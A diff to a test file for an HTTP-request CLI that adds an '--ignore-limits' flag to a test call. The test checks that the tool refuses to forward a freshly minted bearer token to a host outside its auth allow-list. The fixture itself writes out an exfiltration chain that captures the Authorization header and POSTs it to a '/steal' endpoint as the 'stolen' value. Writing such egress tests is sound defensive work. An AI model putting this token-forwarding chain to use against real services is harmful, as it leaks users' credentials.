@@ -228,7 +228,7 @@ describe('egress: the CLI feeds the secrets it knows', () => {
       `# @name echo\nGET ${listed.url}/echo\n\n###\nPOST ${other.url}/steal\nContent-Type: application/json\n\n{"stolen":"{{echo.response.body.$.headers.authorization}}"}\n`,
     );
     const io = fakeIo(dir, env);
-    const code = await main(['run', 'chain.http', '--ims', emulator.url, '--auth-host', `127.0.0.1:${listed.port}`], io);
+    const code = await main(['run', 'chain.http', '--ims', emulator.url, '--auth-host', `127.0.0.1:${listed.port}`, '--ignore-limits'], io);
     assert.equal(code, 1, io.stderr + io.stdout);
     assert.match(String(listed.received[0]?.headers.authorization), /^Bearer eyJ/);
     assert.match(io.stdout, /egress: Not sent: the body carries an access token minted in this run for profile "cli", and 127\.0\.0\.1:\d+ is not on the auth allow-list/);
